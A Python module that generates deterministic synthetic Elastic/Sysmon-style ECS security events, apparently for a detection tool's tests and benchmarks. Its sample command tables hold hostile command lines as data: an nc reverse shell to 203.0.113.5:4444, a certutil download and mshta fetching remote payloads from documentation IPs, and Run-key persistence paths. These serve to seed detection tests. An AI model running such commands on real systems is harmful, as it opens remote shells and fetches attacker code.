"""Deterministic synthetic ECS events, for the examples, tests and benchmarks.

The events look like what Elastic Agent and Sysmon send: process, file,
network, registry and dns events with the usual ECS fields, about 1 KB of
JSON for a process event. A fixed seed gives the same stream every time, so
benchmark results and expected alerts are reproducible.
"""

from __future__ import annotations

import datetime as _dt
import hashlib
import json
import random
from collections.abc import Iterator
from typing import Any

_EPOCH = _dt.datetime(2026, 1, 5, 8, 0, 0, tzinfo=_dt.timezone.utc)

_WIN_BINARIES = [
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", ["/c", "whoami"]),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ["-NoProfile", "-c", "Get-Process"]),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", ["-k", "netsvcs"]),
    ("explorer.exe", "C:\\Windows\\explorer.exe", []),
    ("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", ["shell32.dll,Control_RunDLL"]),
    ("regsvr32.exe", "C:\\Windows\\System32\\regsvr32.exe", ["/s", "C:\\Users\\Public\\a.dll"]),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", ["--type=renderer"]),
    ("certutil.exe", "C:\\Windows\\System32\\certutil.exe", ["-urlcache", "-f", "http://203.0.113.7/a.bin", "a.bin"]),
    ("whoami.exe", "C:\\Windows\\System32\\whoami.exe", ["/all"]),
    ("mshta.exe", "C:\\Windows\\System32\\mshta.exe", ["http://198.51.100.9/x.hta"]),
]
_NIX_BINARIES = [
    ("bash", "/bin/bash", ["-c", "id"]),
    ("curl", "/usr/bin/curl", ["-s", "https://example.org/"]),
    ("python3", "/usr/bin/python3", ["-c", "import os"]),
    ("sshd", "/usr/sbin/sshd", ["-D"]),
    ("nc", "/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.5", "4444"]),
    ("cron", "/usr/sbin/cron", ["-f"]),
]
_PARENTS = ["explorer.exe", "services.exe", "svchost.exe", "winword.exe", "bash", "systemd", "sshd"]
_USERS = ["alice", "bob", "SYSTEM", "root", "svc_backup", "carol"]
_DOMAINS = ["example.org", "updates.example.com", "cdn.example.net", "evil.example", "login.example.com"]
_FILE_EXTS = ["exe", "dll", "ps1", "txt", "docx", "sh", "py", "lnk"]
_REG_KEYS = [
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\Tmp",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler\\ImagePath",
]

#: Category mix of the default stream: process, file, network, registry, dns.
DEFAULT_MIX = {"process": 0.4, "file": 0.25, "network": 0.2, "registry": 0.08, "dns": 0.07}


def _ts(ms: int) -> str:
    return (_EPOCH + _dt.timedelta(milliseconds=ms)).isoformat(timespec="milliseconds").replace("+00:00", "Z")


class EventGenerator:
    """Generate ECS events from a seed.

    ``hosts`` and ``entities`` bound the number of distinct ``host.id`` and
    ``process.entity_id`` values; ``span_ms`` is the time the stream covers.
    """

    def __init__(
        self,
        seed: int = 7,
        *,
        hosts: int = 20,
        entities: int = 500,
        span_ms: int = 3_600_000,
        mix: dict[str, float] | None = None,
    ) -> None:
        self._rng = random.Random(seed)
        self._hosts = [self._host(i) for i in range(hosts)]
        self._entities = entities
        self._span_ms = span_ms
        mix = mix or DEFAULT_MIX
        self._kinds = list(mix)
        self._weights = [mix[k] for k in self._kinds]

    def _host(self, i: int) -> dict[str, Any]:
        windows = i % 3 != 2
        return {
            "id": hashlib.md5(f"host-{i}".encode()).hexdigest(),
            "name": f"{'ws' if windows else 'srv'}-{i:03d}",
            "hostname": f"{'ws' if windows else 'srv'}-{i:03d}",
            "architecture": "x86_64",
            "os": {
                "family": "windows" if windows else "linux",
                "name": "Windows 11 Pro" if windows else "Ubuntu",
                "platform": "windows" if windows else "ubuntu",
                "type": "windows" if windows else "linux",
                "version": "10.0" if windows else "24.04",
                "kernel": "10.0.22631" if windows else "6.8.0-45-generic",
            },
            "ip": [f"10.0.{i // 250}.{i % 250 + 1}"],
        }

    def events(self, n: int) -> Iterator[dict[str, Any]]:
        """Yield ``n`` events in timestamp order."""
        rng = self._rng
        step = max(1, self._span_ms // max(n, 1))
        for i in range(n):
            kind = rng.choices(self._kinds, self._weights)[0]
            host = rng.choice(self._hosts)
            entity = rng.randrange(self._entities)
            yield getattr(self, f"_{kind}")(i * step + rng.randrange(step), host, entity)

    def _common(self, ms: int, host: dict[str, Any], category: str, etype: str, action: str) -> dict[str, Any]:
        return {
            "@timestamp": _ts(ms),
            "agent": {"type": "endpoint", "version": "9.5.0", "id": "f1e2d3c4-0000-4000-8000-" + host["id"][:12]},
            "ecs": {"version": "9.5.0"},
            "data_stream": {"dataset": f"endpoint.events.{category}", "namespace": "default", "type": "logs"},
            "event": {
                "kind": "event",
                "category": [category],
                "type": [etype],
                "action": action,
                "module": "endpoint",
                "dataset": f"endpoint.events.{category}",
            },
            "host": host,
        }

    def _process_fields(self, host: dict[str, Any], entity: int) -> dict[str, Any]:
        rng = self._rng
        table = _WIN_BINARIES if host["os"]["family"] == "windows" else _NIX_BINARIES
        name, exe, args = rng.choice(table)
        parent = rng.choice(_PARENTS)
        pid = rng.randrange(4, 65000)
        return {
            "pid": pid,
            "name": name,
            "executable": exe,
            "args": [exe, *args],
            "args_count": len(args) + 1,
            "command_line": " ".join([exe, *args]),
            "working_directory": "C:\\Users\\Public" if host["os"]["family"] == "windows" else "/tmp",
            "entity_id": f"ent-{entity:06d}",
            "hash": {"sha256": hashlib.sha256(exe.encode()).hexdigest()},
            "parent": {
                "pid": rng.randrange(4, 65000),
                "name": parent,
                "entity_id": f"ent-{(entity * 7 + 3) % self._entities:06d}",
                "executable": f"C:\\Windows\\{parent}" if parent.endswith(".exe") else f"/usr/sbin/{parent}",
            },
            "user": {"name": rng.choice(_USERS)},
        }

    def _acting_process(self, host: dict[str, Any], entity: int) -> dict[str, Any]:
        """The process behind a file, network, registry or DNS event: who it is, not how it started."""
        fields = self._process_fields(host, entity)
        return {k: v for k, v in fields.items() if k in ("pid", "name", "executable", "entity_id")}

    def _process(self, ms: int, host: dict[str, Any], entity: int) -> dict[str, Any]:
        ev = self._common(ms, host, "process", "start", "exec")
        ev["process"] = self._process_fields(host, entity)
        ev["user"] = {"name": ev["process"].pop("user")["name"], "domain": "CORP"}
        return ev

    def _file(self, ms: int, host: dict[str, Any], entity: int) -> dict[str, Any]:
        rng = self._rng
        ev = self._common(ms, host, "file", rng.choice(["creation", "change", "deletion"]), "creation")
        ext = rng.choice(_FILE_EXTS)
        name = f"doc{rng.randrange(1000)}.{ext}"
        folder = "C:\\Users\\Public\\Downloads" if host["os"]["family"] == "windows" else "/tmp"
        sep = "\\" if host["os"]["family"] == "windows" else "/"
        ev["file"] = {"path": f"{folder}{sep}{name}", "name": name, "extension": ext, "size": rng.randrange(10, 10_000_000)}
        ev["process"] = self._acting_process(host, entity)
        return ev

    def _network(self, ms: int, host: dict[str, Any], entity: int) -> dict[str, Any]:
        rng = self._rng
        ev = self._common(ms, host, "network", "start", "connection_attempted")
        port = rng.choice([443, 80, 53, 22, 445, 3389, 4444, 8080])
        ev["source"] = {"ip": host["ip"][0], "port": rng.randrange(49152, 65535)}
        ev["destination"] = {"ip": f"203.0.113.{rng.randrange(1, 255)}", "port": port}
        ev["network"] = {
            "transport": "tcp",
            "protocol": {443: "tls", 80: "http", 53: "dns"}.get(port, "unknown"),
            "direction": "egress",
        }
        ev["process"] = self._acting_process(host, entity)
        return ev

    def _registry(self, ms: int, host: dict[str, Any], entity: int) -> dict[str, Any]:
        rng = self._rng
        ev = self._common(ms, host, "registry", "change", "modification")
        key = rng.choice(_REG_KEYS)
        ev["registry"] = {
            "path": key,
            "key": key.split("\\", 1)[1],
            "value": key.rsplit("\\", 1)[1],
            "data": {"strings": [rng.choice(["C:\\Users\\Public\\a.exe", "%SystemRoot%\\system32\\spoolsv.exe"])]},
        }
        ev["process"] = self._acting_process(host, entity)
        return ev

    def _dns(self, ms: int, host: dict[str, Any], entity: int) -> dict[str, Any]:
        rng = self._rng
        ev = self._common(ms, host, "network", "protocol", "lookup_requested")
        ev["event"]["category"] = ["network"]
        ev["dns"] = {
            "question": {"name": rng.choice(_DOMAINS), "type": "A"},
            "answers": [{"data": f"198.51.100.{rng.randrange(1, 255)}", "type": "A"}],
        }
        ev["process"] = self._acting_process(host, entity)
        return ev


def ndjson(events: Iterator[dict[str, Any]]) -> bytes:
    """Serialise events as newline-delimited JSON."""
    return b"".join(json.dumps(e, separators=(",", ":")).encode() + b"\n" for e in events)


def process_events(n: int, seed: int = 11) -> list[dict[str, Any]]:
    """``n`` process-start events: the realistic ~1 KB ECS event of the ingest benchmark."""
    gen = EventGenerator(seed, mix={"process": 1.0})
    return list(gen.events(n))
